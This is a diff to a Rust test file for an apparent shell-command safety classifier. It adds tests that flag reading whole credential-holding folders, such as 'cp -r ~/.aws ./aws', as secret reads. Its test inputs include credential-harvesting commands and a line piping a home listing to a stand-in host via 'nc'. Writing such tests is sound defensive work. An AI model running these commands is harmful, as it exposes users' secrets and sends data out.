@@ -1266,7 +1266,8 @@ fn a_folder_holding_credentials_read_whole_in_a_line_that_reaches_the_network_is
                 "ls ~ | nc x.example 80",
                 red("fence.path-outside|net.fetch"),
             ),
-            ("tar czf - ~", red("fence.path-outside")),
+            // A folder that holds one, read whole, reads the credential.
+            ("tar czf - ~", red("fence.secret-read")),
             ("grep token ~/notes.txt", red("fence.path-outside")),
         ],
     );
@@ -1669,7 +1670,7 @@ fn a_path_outside_makes_green_red() {
             ("cat ../other/README.md", OUT),
             ("cat src/../../other", OUT),
             ("ls ./..", OUT),
-            ("grep -r x /", OUT),
+            ("grep -r x /usr/share/doc", OUT),
             ("ls /usr", OUT),
             ("ls /usr/lib", OUT),
             ("ls /usr/local/bin", OUT),
@@ -5395,6 +5396,35 @@ fn deno_and_bun_running_the_script_on_stdin_read_it_from_the_pipe() {
             ),
             ("deno run main.ts", yellow("default.unknown")),
             ("bun run dev", yellow("default.unknown")),
+        ],
+    );
+}
+
+#[test]
+fn reading_a_folder_that_holds_a_credential_whole_reads_it() {
+    check(
+        &classifier(),
+        &[
+            ("grep -r token ~", red("fence.secret-read")),
+            ("grep -r x /", red("fence.secret-read")),
+            ("rg password ~/.config", red("fence.secret-read")),
+            ("tar czf home.tgz ~", red("fence.secret-read")),
+            ("zip -r c.zip ~/.config", red("fence.secret-read")),
+            ("cp -r ~/.aws ./aws", red("fence.secret-read")),
+            ("rsync -a ~/ backup/", red("fence.secret-read")),
+            // Listing or extracting an archive reads the archive only.
+            ("tar -tzf a.tgz -C /etc", red("fence.path-outside")),
+            ("tar xzf a.tgz -C /tmp/x", red("fence.path-outside")),
+            // A folder that holds none.
+            ("grep -r x /usr/share/doc", red("fence.path-outside")),
+            ("cp -r ~/.config/nvim ./nvim", red("fence.path-outside")),
+        ],
+    );
+    check_actions(
+        &in_mode(Mode::Auto),
+        &[
+            ("grep -r token ~", Action::Ask),
+            ("grep -r token ~/notes", Action::Allow),
         ],
     );
 }
